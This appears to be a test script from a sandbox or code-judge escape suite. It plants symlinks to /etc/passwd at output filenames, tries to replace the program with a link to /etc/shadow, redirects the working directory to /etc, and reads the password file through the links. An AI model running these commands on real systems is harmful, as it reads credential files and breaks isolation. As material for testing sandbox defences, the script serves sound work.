# Tries: put links to the machine's files where the server looks for output and for the program
# Group: files
# Ends: exited 0
cd /program && for name in prog.out prog.err out output stdout core result; do ln -s /etc/passwd $name; done
(rm /given/program || mv /given/program /tmp || ln -sf /etc/shadow /given/program) 2>/dev/null && echo "THROUGH the program"
rmdir /program 2>/dev/null && ln -s /etc /program && echo "THROUGH the working directory"
cat prog.out 2>/dev/null && echo "THROUGH /etc/passwd"
exit 0
